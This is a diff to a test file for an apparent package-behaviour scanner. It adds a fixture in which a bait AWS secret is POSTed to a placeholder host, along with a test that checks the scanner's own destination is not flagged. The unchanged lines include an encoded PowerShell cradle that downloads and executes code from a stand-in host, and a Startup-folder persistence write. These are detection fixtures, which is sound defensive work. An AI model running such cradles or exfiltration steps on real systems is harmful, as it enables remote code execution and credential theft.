@@ -58,6 +58,11 @@ CONTEXT_EVENTS = {
     "DYN-WINDOWS-PERSISTENCE-ENCODED": ("import", [("commands", _cmd(
         "powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")))],
                                         [("commands", _cmd("powershell", "-e", _ps_enc("Get-Date")))]),
+    "DYN-BAIT-SENT-TO-ARGUMENT": ("execute", [("network", {
+        "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "pkgtrace-placeholder.example",
+        "http": {"method": "POST", "target": "/", "host": "pkgtrace-placeholder.example", "headers": [],
+                 "body_b64": _b64("BAIT_AWS_SECRET")}})],
+                                  [("network", _http("pkgtrace-placeholder.example"))]),
     "DYN-PERSONA-STARTUP-WRITE": ("import", [("files", {
         "path": "/root/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/upd.bat",
         "read": False, "write": True, "delete": False})],
@@ -70,6 +75,7 @@ def _with(events, phase: str, world: str | None = None) -> dict:
     docs = recorded(BENIGN)
     del docs["dynamic"]  # the report section is the richer source
     dyn = docs["report"]["dynamic"]
+    dyn["bait"]["values"].append({"what": "aws_secret_access_key", "value": "BAIT_AWS_SECRET"})
     empty = copy.deepcopy(dyn["phases"]["import"]) | {"files": [], "commands": [], "network": [], "dns": [],
                                                        "file_events": [], "left_running": [], "failed": []}
     if world:
@@ -105,6 +111,14 @@ def test_the_same_read_followed_by_a_send_is_theft():
     assert v["label"] == "malicious", v["findings"]
     theft = next(f for f in v["findings"] if f["rule"] == "DYN-CREDENTIAL-THEFT")
     assert AWS in theft["evidence"]["read"] and "sink.example" in theft["evidence"]["sent"]
+
+
+def test_a_call_pkgtrace_pointed_at_its_own_destination_is_not_network_or_theft():
+    # an HTTP client's get(url) in execute, after an SDK read: pkgtrace chose that destination
+    v = judge(_with([("files", _read(AWS)), ("network", _http("pkgtrace-placeholder.example"))], "execute"),
+              suppressions=[])
+    assert v["label"] == "benign", v["findings"]
+    assert not {"DYN-NETWORK-EXECUTE", "DYN-CREDENTIAL-THEFT"} & set(v["rules_fired"])
 
 
 def test_a_send_to_the_registry_after_a_read_is_not_theft():
